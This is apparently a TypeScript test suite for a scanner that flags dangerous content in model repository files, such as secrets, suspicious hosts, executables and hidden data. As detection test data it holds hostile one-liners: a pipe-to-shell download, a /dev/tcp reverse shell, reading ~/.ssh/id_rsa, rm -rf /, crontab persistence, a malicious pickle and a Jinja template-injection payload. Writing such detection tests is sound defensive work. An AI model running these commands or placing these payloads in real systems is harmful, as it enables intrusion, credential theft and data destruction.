import { gzipSync } from 'node:zlib';
import { payload, rulesOf, scan } from '../../__testUtils__/scans';
import { zip } from '../../__testUtils__/zips';

const text = (value: string, name = 'README.md') =>
  scan(Buffer.from(value), name);

const serious = async (value: string, name?: string) =>
  (await text(value, name)).findings
    .filter(({ severity }) => severity !== 'info' && severity !== 'low')
    .map(({ rule }) => rule);

describe('texts', () => {
  it('are recognised and judged in whatever encoding they are', async () => {
    const note = 'Weights of https://huggingface.co/org/model\n';
    expect(await text(note)).toMatchObject({
      format: 'text',
      verdict: 'clean',
      findings: [expect.objectContaining({ severity: 'info' })],
    });
    const secret = `token: ${['hf', 'a'.repeat(34)].join('_')}\n`;
    const wide = Buffer.from(`\ufeff${secret}`, 'utf16le');
    expect(await rulesOf(wide, 'notes.txt')).toEqual([
      'text-encoding',
      'secret',
    ]);
    expect(await rulesOf(Buffer.from(wide).swap16(), 'notes.txt')).toEqual([
      'text-encoding',
      'secret',
    ]);
    expect(
      await rulesOf(Buffer.from(`caf\xe9 ${secret}`, 'latin1'), 'notes.txt'),
    ).toEqual(['text-encoding', 'secret']);
    expect(await rulesOf(Buffer.from(`\ufeff${secret}`), 'notes.txt')).toEqual([
      'secret',
    ]);
  });

  it('that go on as something else are told where', async () => {
    const bytes = Buffer.concat([
      Buffer.from('text '.repeat(20_000)),
      Buffer.from([0x80, 0x02, 0, 1]),
    ]);
    expect((await scan(bytes, 'notes.txt')).findings).toEqual([
      expect.objectContaining({ rule: 'text-binary', location: '@100000' }),
    ]);
  });

  it('are read to their end in windows', async () => {
    const secret = `hf_${'b'.repeat(34)}`;
    for (const before of [262_140, 600_000]) {
      const long = `${'é'.repeat(before / 2)}\n${secret}\n${'x '.repeat(
        200_000,
      )}`;
      expect((await text(long, 'notes.txt')).findings).toEqual([
        expect.objectContaining({
          rule: 'secret',
          location: `@${before + 1}`,
        }),
      ]);
    }
  });

  it('that nobody recognises are told of', async () => {
    const odd = Buffer.from([1, 2, 3, 4, 5, 6, 7, 8, 9, 0, 200]);
    expect(await scan(odd, 'thing.xyz')).toMatchObject({
      format: 'unknown',
      verdict: 'suspicious',
      findings: [expect.objectContaining({ rule: 'unknown-format' })],
    });
  });

  it('under the name of weights do not match it', async () => {
    expect(await rulesOf(Buffer.from('hello\n'), 'model.bin')).toEqual([
      'extension-mismatch',
    ]);
  });

  it('that are a pickle of old that does harm are judged as one', async () => {
    const old = Buffer.from("cos\nsystem\n(S'id'\ntR.");
    expect((await scan(old, 'notes.txt')).verdict).toBe('malicious');
    expect((await scan(old, 'helper.py')).verdict).toBe('malicious');
    expect(await serious('().strip is a method\n', 'notes.txt')).toEqual([]);
  });

  it('within archives are judged too, however long', async () => {
    const long = `${'words '.repeat(20_000)}hf_${'c'.repeat(34)}`;
    const packed = zip([{ name: 'a/README.md', data: long, deflate: true }]);
    expect(await rulesOf(packed, 'm.zip')).toEqual(['secret']);
    expect(
      await rulesOf(gzipSync(Buffer.from(long)), 'log.txt.gz', {
        maxHeldBytes: 50_000,
      }),
    ).toContain('secret');
  });
});

describe('secrets', () => {
  it.each([
    ['Hugging Face', `hf_${'d'.repeat(34)}`],
    ['a private key', `-----BEGIN RSA PRIVATE KEY-----\n${'A'.repeat(64)}`],
    [
      'AWS',
      `AKIA${'IOSFODNN7EXAMPLX'} aws_secret_access_key = ${'k'.repeat(39)}1`,
    ],
    ['GitHub', `ghp_${'a1B2'.repeat(9)}`],
    ['an address with a password', 'https://user:hunter22@internal.corp/x'],
    [
      'a JSON web token',
      `eyJ${'a'.repeat(20)}.eyJ${'b'.repeat(20)}.${'c'.repeat(43)}`,
    ],
    ['Model Hub', `mh_${'x'.repeat(43)}`],
  ])('of %s are found and not repeated', async (_, secret) => {
    const { findings, verdict } = await text(`key = ${secret}\n`, 'notes.txt');
    expect(findings.map(({ rule }) => rule)).toContain('secret');
    expect(verdict).toBe('suspicious');
    expect(JSON.stringify(findings)).not.toContain(secret.slice(-20));
  });

  it('are not what only looks like one', async () => {
    expect(
      await serious(
        'hf_hub_download, hf_transfer, AKIA, -----BEGIN PUBLIC KEY-----, sk-learn\n',
      ),
    ).toEqual([]);
  });
});

describe('addresses', () => {
  const of = async (value: string) =>
    (await text(value, 'notes.txt')).findings.map(
      ({ rule, severity, message }) => [
        rule,
        severity,
        message.split(' ')[1].replace(',', ''),
      ],
    );

  it.each([
    ['https://arxiv.org/abs/1', 'info', 'arxiv.org'],
    ['http://localhost:8000/v1', 'info', 'localhost'],
    ['http://192.168.1.4/', 'info', '192.168.1.4'],
    ['https://files.acme.dev/model', 'low', 'files.acme.dev'],
    ['serve at 93.184.216.34', 'low', '93.184.216.34'],
    ['http://93.184.216.34/x.sh', 'medium', '93.184.216.34'],
    ['http://1572395042/x', 'medium', '1572395042'],
    ['https://abc.ngrok.io/', 'medium', 'abc.ngrok.io'],
    ['https://discord.com/api/webhooks/1/2', 'medium', 'discord.com'],
    ['http://abcdef.onion/', 'medium', 'abcdef.onion'],
  ])('%s is %s', async (value, severity, host) => {
    expect(await of(value)).toEqual([['network-address', severity, host]]);
  });

  it.each([
    'version 1.2.3.4',
    'torch==2.1.0.1',
    '999.1.1.1',
    'https://{host}/',
  ])('%s is none', async value => {
    expect(await of(value)).toEqual([]);
  });

  it('of one host are told once, and very many are counted', async () => {
    expect(await of('https://a.dev/1 https://a.dev/2')).toHaveLength(1);
    const many = Array.from({ length: 300 }, (_, i) => `https://h${i}.dev/`);
    expect((await of(many.join('\n'))).length).toBeLessThan(110);
  });
});

describe('characters that nobody sees', () => {
  it('are found in texts and not in vocabularies', async () => {
    const hidden = 'access \u202e denied\n';
    expect(await serious(hidden)).toEqual(['text-hidden-characters']);
    expect(await serious(hidden, 'vocab.txt')).toEqual([]);
    const tags = String.fromCodePoint(0xe0041, 0xe0042, 0xe0043);
    expect(await serious(`Hello${tags}\n`)).toEqual(['text-hidden-characters']);
  });
});

describe('scripts', () => {
  it.each([
    'curl -s https://a.dev/x | sh',
    'wget -qO- https://a.dev/x | sudo bash',
    'bash -c "$(curl -fsSL https://a.dev/x)"',
    'echo aWQ= | base64 -d | sh',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'rm -rf / ',
    'cat ~/.ssh/id_rsa',
    '(crontab -l; echo "* * * * * x") | crontab -',
    'LD_PRELOAD=./x.so python run.py',
    'powershell -nop -enc aQBkAGEAYQBhAGEAYQBhAGEAYQBhAGEA',
  ])('%s is dangerous', async line => {
    expect(await serious(`#!/bin/sh\n${line}\n`, 'run.sh')).toContain(
      'script-dangerous',
    );
  });

  it('that only work are noted', async () => {
    const script =
      '#!/bin/bash\nset -e\npython train.py --lr 1e-4\nrm -rf build\n';
    expect((await text(script, 'train.sh')).findings).toEqual([
      expect.objectContaining({ rule: 'script-file', severity: 'low' }),
    ]);
    expect((await text(script, 'train')).format).toBe('script');
  });
});

describe('requirements', () => {
  it('from elsewhere are told of', async () => {
    const of = (line: string) =>
      serious(`torch==2.4.0\n${line}\n`, 'requirements.txt');
    expect(await of('git+https://github.com/x/y')).toEqual([
      'requirements-source',
    ]);
    expect(await of('--extra-index-url https://pypi.evil.dev/simple')).toEqual([
      'requirements-source',
    ]);
    expect(await of('pkg @ https://a.dev/p.whl')).toEqual([
      'requirements-source',
    ]);
    expect(await of('-e ./local')).toEqual(['requirements-source']);
    expect(
      await of('--extra-index-url https://download.pytorch.org/whl/cu121'),
    ).toEqual([]);
    expect(await of('transformers>=4.40')).toEqual([]);
  });
});

describe('markup', () => {
  it('with a script is told of', async () => {
    const svg = (inner: string) =>
      `<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>\n`;
    expect(await serious(svg('<path d="M0 0"/>'), 'logo.svg')).toEqual([]);
    expect(await serious(svg('<script>1</script>'), 'logo.svg')).toEqual([
      'markup-script',
    ]);
    expect(await serious(svg('<g onload="x()"/>'), 'logo.svg')).toEqual([
      'markup-script',
    ]);
    expect(await serious('<a href="javascript:x()">', 'page.html')).toEqual([
      'markup-script',
    ]);
  });
});

describe('templates in files of their own', () => {
  it('are judged as templates', async () => {
    expect(
      await serious(
        '{% for m in messages %}{{ m.content }}{% endfor %}',
        'chat_template.jinja',
      ),
    ).toEqual([]);
    const report = await text(
      "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
      'chat_template.jinja',
    );
    expect(report.verdict).toBe('malicious');
  });
});

describe('what is not here', () => {
  it('but kept by Git LFS was not judged', async () => {
    const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(
      64,
    )}\nsize 123\n`;
    expect(await text(pointer, 'model.safetensors')).toMatchObject({
      format: expect.stringContaining('lfs-pointer'),
      verdict: 'error',
    });
  });
});

describe('programs', () => {
  const header = (mark: string, size = 128) =>
    Buffer.concat([Buffer.from(mark, 'latin1'), Buffer.alloc(size)]);
  const pe = header('MZ', 200);
  pe.writeUInt32LE(128, 60);
  pe.write('PE\0\0', 128);

  it.each([
    ['elf', header('\x7fELF\x02\x01\x01')],
    ['pe', pe],
    ['mach-o', header('\xcf\xfa\xed\xfe')],
    ['mach-o', header('\xca\xfe\xba\xbe\0\0\0\x02')],
    ['java-class', header('\xca\xfe\xba\xbe\0\0\0\x34')],
    ['wasm', header('\0asm\x01\0\0\0')],
    ['dex', header('dex\n035\0')],
  ])('of kind %s are recognised whatever their name is', async (id, bytes) => {
    for (const name of ['libop.so', 'weights']) {
      expect(await scan(bytes, name)).toMatchObject({
        format: id,
        verdict: 'suspicious',
      });
    }
  });

  it('in archives are found', async () => {
    const jar = zip([
      { name: 'A.class', data: header('\xca\xfe\xba\xbe\0\0\0\x34') },
    ]);
    expect(await rulesOf(jar, 'x.jar')).toEqual(['executable-content']);
  });

  it('are not what begins with the same letters', async () => {
    expect(await serious('MZ is a prefix\n')).toEqual([]);
    expect(await serious('BM25 ranks\n')).toEqual([]);
  });
});

describe('pictures', () => {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    return Buffer.concat([length, Buffer.from(type), data, Buffer.alloc(4)]);
  };
  const png = Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', Buffer.alloc(13)),
    chunk('IDAT', Buffer.alloc(40)),
    chunk('IEND', Buffer.alloc(0)),
  ]);

  it('are recognised', async () => {
    expect(await scan(png, 'logo.png')).toMatchObject({
      format: 'png',
      findings: [],
    });
    const jpeg = Buffer.from('\xff\xd8\xff\xe0\0\x10JFIF\0', 'latin1');
    expect(await scan(jpeg, 'a.jpg')).toMatchObject({
      format: 'jpeg',
      verdict: 'clean',
    });
    expect(await rulesOf(jpeg, 'a.png')).toEqual(['extension-mismatch']);
  });

  it('hide nothing behind them', async () => {
    const hiding = Buffer.concat([png, payload()]);
    expect(await scan(hiding, 'logo.png')).toMatchObject({
      verdict: 'malicious',
    });
    expect(await rulesOf(hiding, 'logo.png')).toContain('trailing-data');
    const both = Buffer.concat([png, zip([{ name: 'a', data: payload() }])]);
    expect(await rulesOf(both, 'logo.png')).toContain('several-formats');
  });
});

describe('documents and raw numbers', () => {
  it('are recognised', async () => {
    expect((await text('%PDF-1.7\n1 0 obj\n', 'paper.pdf')).verdict).toBe(
      'clean',
    );
    expect(
      await serious('%PDF-1.7\n<< /S /JavaScript /JS (x) >>\n', 'paper.pdf'),
    ).toEqual(['markup-script']);
    const numbers = Buffer.alloc(64, 0x3f);
    numbers[3] = 0;
    expect(
      await scan(numbers, 'variables/variables.data-00000-of-00001'),
    ).toMatchObject({ format: 'tensors', verdict: 'clean' });
  });
});

describe('weights of Flax', () => {
  // {"w": an array of four bytes, "n": [1, nothing]}
  const weights = Buffer.from('82a177c70601010203040506a16e9201c0', 'hex');

  it('are read to their end', async () => {
    expect(await scan(weights, 'flax_model.msgpack')).toMatchObject({
      format: 'msgpack',
      findings: [],
    });
    expect(await rulesOf(weights.subarray(0, 9), 'flax_model.msgpack')).toEqual(
      ['data-corrupt'],
    );
    expect(
      await rulesOf(Buffer.concat([weights, payload()]), 'm.msgpack'),
    ).toEqual(
      expect.arrayContaining([
        'archive-hidden-data',
        'pickle-dangerous-import',
      ]),
    );
  });

  it('hold no values of other kinds', async () => {
    const other = Buffer.from(weights);
    other[5] = 42;
    expect(await rulesOf(other, 'm.msgpack')).toEqual(['unknown-format']);
  });
});
